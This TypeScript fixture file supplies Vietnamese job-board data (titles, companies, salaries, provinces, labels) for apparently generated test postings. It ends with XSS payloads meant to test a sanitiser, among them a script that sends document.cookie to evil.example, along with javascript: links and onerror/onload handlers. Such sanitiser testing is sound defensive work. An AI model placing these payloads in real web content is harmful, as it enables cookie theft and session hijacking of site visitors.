/**
 * The words the fixture board builds its postings from: Vietnamese titles, companies, salaries, places, labels. The
 * salary, location, experience and label forms are the ones seen on real TopCV pages (see shared/samples/README.md).
 */

export interface Field {
  titles: readonly string[];
  tags: readonly string[];
  duties: readonly string[];
  requirements: readonly string[];
}

export const FIELDS: readonly Field[] = [
  {
    titles: [
      "Lập trình viên Python",
      "Senior Python Developer (Django/FastAPI)",
      "Lập trình viên Java (Spring Boot)",
      "Frontend Developer (ReactJS)",
      "Backend Developer (NodeJS)",
      "Lập trình viên JavaScript",
      "Fullstack Developer (Vue.js, Laravel)",
      "Mobile Developer (Flutter)",
      "Kỹ sư DevOps",
      "Kỹ Sư AI - AI Engineer",
      "Data Engineer",
      "Tester / QA Engineer",
      "Lập trình viên PHP (Laravel)",
      "Kỹ sư cầu nối (BrSE) tiếng Nhật",
      "Thực tập sinh lập trình",
    ],
    tags: ["Python", "Java", "JavaScript", "ReactJS", "NodeJS", "Docker", "AWS", "SQL", "IT - Phần mềm", "Agile"],
    duties: [
      "Phát triển và bảo trì các dịch vụ backend cho hệ thống tuyển dụng",
      "Thiết kế API RESTful, viết unit test và tài liệu kỹ thuật",
      "Tham gia review code, đề xuất cải tiến kiến trúc hệ thống",
      "Phối hợp với team Product & Design để hoàn thiện tính năng",
      "Tối ưu hiệu năng truy vấn cơ sở dữ liệu PostgreSQL",
      "Triển khai CI/CD, giám sát hệ thống trên môi trường production",
    ],
    requirements: [
      "Tốt nghiệp Đại học chuyên ngành Công nghệ thông tin hoặc liên quan",
      "Có ít nhất 1 năm kinh nghiệm ở vị trí tương đương",
      "Thành thạo Git, Linux, Docker",
      "Có khả năng đọc hiểu tài liệu tiếng Anh",
      "Tư duy logic tốt, chủ động trong công việc",
    ],
  },
  {
    titles: [
      "Kế toán tổng hợp",
      "Kế Toán Tổng Hợp - Upto 16tr - Quận 1, HCM",
      "Kế toán thuế",
      "Kế toán công nợ",
      "Kế toán kho",
      "Kế toán trưởng",
      "Nhân viên kế toán nội bộ",
      "Kiểm toán viên",
    ],
    tags: ["Kế toán tổng hợp", "Kế toán", "Kiểm toán", "Thuế", "MISA", "Excel", "Bán lẻ - Hàng tiêu dùng - FMCG"],
    duties: [
      "Hạch toán các nghiệp vụ kinh tế phát sinh hằng ngày",
      "Lập báo cáo tài chính, báo cáo thuế tháng/quý/năm",
      "Theo dõi công nợ phải thu, phải trả và đối chiếu với khách hàng",
      "Kiểm tra chứng từ, hóa đơn đầu vào, đầu ra",
      "Làm việc với cơ quan thuế, kiểm toán khi có yêu cầu",
    ],
    requirements: [
      "Tốt nghiệp Cao đẳng/Đại học chuyên ngành Kế toán, Tài chính",
      "Sử dụng thành thạo phần mềm MISA, Excel",
      "Nắm vững luật thuế, chuẩn mực kế toán Việt Nam",
      "Cẩn thận, trung thực, chịu được áp lực công việc",
    ],
  },
  {
    titles: [
      "Nhân viên kinh doanh",
      "Nhân Viên Kinh Doanh - Thu Nhập Từ 15 Triệu",
      "Chuyên viên tư vấn bất động sản",
      "Trưởng phòng kinh doanh",
      "Nhân viên chăm sóc khách hàng",
      "Chuyên viên Digital Marketing",
      "Trưởng phòng Marketing",
      "Nhân viên telesales (Không yêu cầu kinh nghiệm)",
    ],
    tags: ["Sales", "B2B", "Tư vấn", "Marketing", "Chăm sóc khách hàng", "Bất động sản", "Tiếng Anh"],
    duties: [
      "Tìm kiếm, khai thác và phát triển khách hàng mới",
      "Tư vấn sản phẩm, dịch vụ phù hợp với nhu cầu khách hàng",
      "Chăm sóc khách hàng hiện có, duy trì mối quan hệ lâu dài",
      "Lập kế hoạch và báo cáo doanh số hằng tuần",
    ],
    requirements: [
      "Kỹ năng giao tiếp, đàm phán tốt",
      "Ưu tiên ứng viên có kinh nghiệm bán hàng",
      "Có phương tiện đi lại, sẵn sàng đi công tác",
      "Nhiệt tình, năng động, cầu tiến",
    ],
  },
  {
    titles: [
      "Nhân viên hành chính nhân sự",
      "Chuyên viên tuyển dụng",
      "Trợ lý giám đốc",
      "Chuyên viên pháp chế",
      "Giáo viên tiếng Anh",
      "Nhân viên thiết kế đồ họa",
      "Kỹ sư xây dựng",
      "Nhân viên kho",
    ],
    tags: ["Hành chính", "Nhân sự", "Tuyển dụng", "Pháp lý", "Giáo dục", "Thiết kế", "Xây dựng", "Logistics"],
    duties: [
      "Quản lý hồ sơ, giấy tờ và văn thư của công ty",
      "Tổ chức các hoạt động nội bộ, sự kiện cho nhân viên",
      "Phối hợp với các phòng ban để hoàn thành công việc được giao",
      "Thực hiện các công việc khác theo sự phân công của quản lý",
    ],
    requirements: [
      "Tốt nghiệp Cao đẳng trở lên",
      "Sử dụng thành thạo tin học văn phòng",
      "Giao tiếp tốt, cẩn thận, có trách nhiệm",
    ],
  },
];

export const TITLE_SUFFIXES: readonly string[] = [
  "",
  "",
  "",
  " - Thu Nhập Hấp Dẫn",
  " - Làm Việc Tại Hà Nội",
  " - Upto 20tr",
  " (Hybrid)",
  " - Đi Làm Ngay",
];

export interface Company {
  name: string;
  slug: string;
  /** Companies with a brand page publish their postings under /brand/<brand>/tuyen-dung/. */
  brand: string | null;
  size: string;
  address: string;
}

export const COMPANIES: readonly Company[] = [
  {
    name: "Công ty TNHH TM XNK Kiến Nam",
    slug: "cong-ty-tnhh-tm-xnk-kien-nam",
    brand: null,
    size: "25-99 nhân viên",
    address: "Số 12 Nguyễn Huệ, Phường Bến Nghé, Quận 1, Thành phố Hồ Chí Minh",
  },
  {
    name: "CÔNG TY TNHH JUNIOR DEVS",
    slug: "cong-ty-tnhh-junior-devs",
    brand: null,
    size: "10-24 nhân viên",
    address: "Tầng 12, Tòa nhà Licogi 13, Số 164 Khuất Duy Tiến, Quận Thanh Xuân, Hà Nội",
  },
  {
    name: "Công ty Cổ phần Công nghệ Sao Việt",
    slug: "cong-ty-co-phan-cong-nghe-sao-viet",
    brand: "saoviet-tech",
    size: "100-499 nhân viên",
    address: "Tòa nhà Sao Việt, 18 Tam Trinh, Quận Hoàng Mai, Hà Nội",
  },
  {
    name: "Ngân hàng TMCP Phương Nam Á",
    slug: "ngan-hang-tmcp-phuong-nam-a",
    brand: "phuongnama-bank",
    size: "1000+ nhân viên",
    address: "201 Điện Biên Phủ, Quận Bình Thạnh, Thành phố Hồ Chí Minh",
  },
  {
    name: "Công ty TNHH Giải pháp Phần mềm Hòa Bình",
    slug: "cong-ty-tnhh-giai-phap-phan-mem-hoa-binh",
    brand: null,
    size: "25-99 nhân viên",
    address: "Lô A2, Khu công nghệ cao, Thành phố Thủ Đức, Thành phố Hồ Chí Minh",
  },
  {
    name: "Tập đoàn An Phát Holdings",
    slug: "tap-doan-an-phat-holdings",
    brand: "anphat-group",
    size: "500-1000 nhân viên",
    address: "Khu công nghiệp Nam Sách, Hải Dương",
  },
  {
    name: "Công ty Cổ phần Thương mại Dịch vụ Minh Long",
    slug: "cong-ty-co-phan-thuong-mai-dich-vu-minh-long",
    brand: null,
    size: "100-499 nhân viên",
    address: "45 Lê Duẩn, Quận Hải Châu, Đà Nẵng",
  },
  {
    name: "Công ty TNHH Kế toán Thuế Đại Tín",
    slug: "cong-ty-tnhh-ke-toan-thue-dai-tin",
    brand: null,
    size: "10-24 nhân viên",
    address: "88 Trần Hưng Đạo, Thành phố Thủ Dầu Một, Bình Dương",
  },
  {
    name: "Công ty Cổ phần Bất động sản Đất Xanh Miền Nam",
    slug: "cong-ty-co-phan-bat-dong-san-dat-xanh-mien-nam",
    brand: null,
    size: "500-1000 nhân viên",
    address: "2W Ung Văn Khiêm, Quận Bình Thạnh, Thành phố Hồ Chí Minh",
  },
  {
    name: "Công ty TNHH Điện tử Vina Bắc Ninh",
    slug: "cong-ty-tnhh-dien-tu-vina-bac-ninh",
    brand: null,
    size: "1000+ nhân viên",
    address: "Khu công nghiệp Yên Phong, Bắc Ninh",
  },
  {
    name: "Trường Anh ngữ Quốc tế Ánh Dương",
    slug: "truong-anh-ngu-quoc-te-anh-duong",
    brand: null,
    size: "100-499 nhân viên",
    address: "23 Hùng Vương, Thành phố Nha Trang, Khánh Hòa",
  },
  {
    name: "Công ty Cổ phần Logistics Cảng Hải Phòng Xanh",
    slug: "cong-ty-co-phan-logistics-cang-hai-phong-xanh",
    brand: "haiphongxanh-logistics",
    size: "500-1000 nhân viên",
    address: "Số 5 Lạch Tray, Quận Ngô Quyền, Hải Phòng",
  },
];

/** Every salary form of the samples README (both spellings of "Thoả thuận", ranges, "Tới", "Từ", "Trên", USD, decimals). */
export const SALARIES: readonly string[] = [
  "Thoả thuận",
  "Thỏa thuận",
  "10 - 15 triệu",
  "12 - 16 triệu",
  "8 - 10 triệu",
  "15 - 20 triệu",
  "25 - 35 triệu",
  "30 - 40 triệu",
  "Tới 20 triệu",
  "Tới 35 triệu",
  "Từ 10 triệu",
  "Từ 6.6 triệu",
  "Trên 10 triệu",
  "Trên 25 triệu",
  "1,000 - 2,000 USD",
  "Tới 2,500 USD",
  "Trên 1,500 USD",
  "15.5 triệu",
];

export interface Province {
  /** As the board prints it on cards; old (pre-2025) names on purpose. */
  label: string;
  districts: readonly string[];
  weight: number;
}

export const PROVINCES: readonly Province[] = [
  { label: "Hà Nội", districts: ["Quận Cầu Giấy", "Quận Nam Từ Liêm", "Quận Thanh Xuân", "Quận Đống Đa"], weight: 10 },
  { label: "Hồ Chí Minh", districts: ["Quận 1", "Quận 3", "Quận Bình Thạnh", "Thành phố Thủ Đức"], weight: 10 },
  { label: "TP.HCM", districts: ["Quận 7", "Quận Tân Bình"], weight: 2 },
  { label: "Đà Nẵng", districts: ["Quận Hải Châu", "Quận Sơn Trà"], weight: 3 },
  { label: "Bình Dương", districts: ["Thành phố Thủ Dầu Một", "Thành phố Dĩ An"], weight: 2 },
  { label: "Bà Rịa-Vũng Tàu", districts: ["Thành phố Vũng Tàu"], weight: 1 },
  { label: "Đồng Nai", districts: ["Thành phố Biên Hòa"], weight: 1 },
  { label: "Hải Dương", districts: ["Thành phố Hải Dương"], weight: 1 },
  { label: "Bắc Giang", districts: ["Thành phố Bắc Giang"], weight: 1 },
  { label: "Bắc Ninh", districts: ["Thành phố Bắc Ninh", "Huyện Yên Phong"], weight: 1 },
  { label: "Hải Phòng", districts: ["Quận Ngô Quyền", "Quận Lê Chân"], weight: 2 },
  { label: "Cần Thơ", districts: ["Quận Ninh Kiều"], weight: 1 },
  { label: "Khánh Hòa", districts: ["Thành phố Nha Trang"], weight: 1 },
  { label: "Long An", districts: ["Thành phố Tân An"], weight: 1 },
  { label: "Thừa Thiên Huế", districts: ["Thành phố Huế"], weight: 1 },
];

export const EXPERIENCES: readonly string[] = [
  "Không yêu cầu",
  "Dưới 1 năm",
  "1 năm",
  "2 năm",
  "3 năm",
  "4 năm",
  "5 năm",
  "Trên 5 năm",
];

export const LEVELS: readonly string[] = [
  "Nhân viên",
  "Trưởng nhóm",
  "Trưởng/Phó phòng",
  "Quản lý / Giám sát",
  "Thực tập sinh",
];

/** "Đăng ..." labels as shown on cards. */
export const POSTED_LABELS: readonly string[] = [
  "hôm nay",
  "1 ngày trước",
  "2 ngày trước",
  "3 ngày trước",
  "5 ngày trước",
  "1 tuần trước",
  "2 tuần trước",
  "1 tháng trước",
];

/** "Cập nhật ..." tooltips. */
export const UPDATED_LABELS: readonly string[] = [
  "48 giây trước",
  "15 phút trước",
  "2 giờ trước",
  "hôm qua",
  "2 ngày trước",
  "1 tuần trước",
];

export const BENEFITS: readonly string[] = [
  "Lương tháng 13, thưởng theo hiệu quả công việc",
  "Đóng BHXH, BHYT, BHTN đầy đủ theo quy định",
  "Nghỉ thứ 7, Chủ nhật",
  "Du lịch hằng năm, team building hằng quý",
  "Khám sức khỏe định kỳ, bảo hiểm sức khỏe cao cấp",
  "Được đào tạo, có lộ trình thăng tiến rõ ràng",
];

export const WORKING_TIMES: readonly string[] = [
  "Thứ 2 - Thứ 6 (từ 08:00 đến 17:00)",
  "Thứ 2 - Thứ 6 (từ 08:30 đến 17:30), Thứ 7 (từ 08:30 đến 12:00)",
  "Thứ 2 - Thứ 7 (từ 08:00 đến 17:00)",
];

/** Payloads a hostile posting carries in its title and description (the sanitiser must neutralise every one). */
export const HOSTILE_TITLE_SUFFIX = ` <script>alert("xss")</script><img src=x onerror=alert(1)>`;
export const HOSTILE_DESCRIPTION =
  `<p onclick="alert(1)">Mô tả <script>document.location='http://evil.example/?c='+document.cookie</script></p>` +
  `<img src="x" onerror="alert('img')">` +
  `<a href="javascript:alert('link')">Ứng tuyển nhanh</a>` +
  `<a href="JaVaScRiPt:alert(2)">Xem thêm</a>` +
  `<div style="background-image: url(javascript:alert('css')); width: expression(alert('ie'))">Phúc lợi</div>` +
  `<style>body { background: url("javascript:alert('style')") }</style>` +
  `<svg onload="alert('svg')"><circle r="1"/></svg>` +
  `<iframe src="https://evil.example/frame"></iframe>`;
